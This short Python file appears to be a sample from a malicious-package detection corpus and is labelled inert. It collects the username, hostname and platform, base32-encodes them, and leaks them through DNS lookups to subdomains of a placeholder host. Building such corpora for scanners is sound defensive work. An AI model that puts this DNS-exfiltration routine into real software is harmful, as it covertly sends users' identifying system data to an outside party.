# pkgguard corpus 346 (system-information), modelled on [taxonomy]; inert, never run.
import base64
import getpass
import platform
import socket

info = f"{getpass.getuser()}|{socket.gethostname()}|{platform.platform()}"
encoded = base64.b32encode(info.encode()).decode().rstrip("=").lower()
for i in range(0, len(encoded), 60):
    try:
        socket.gethostbyname(f"{encoded[i:i + 60]}.{i}.t.example")
    except OSError:
        pass
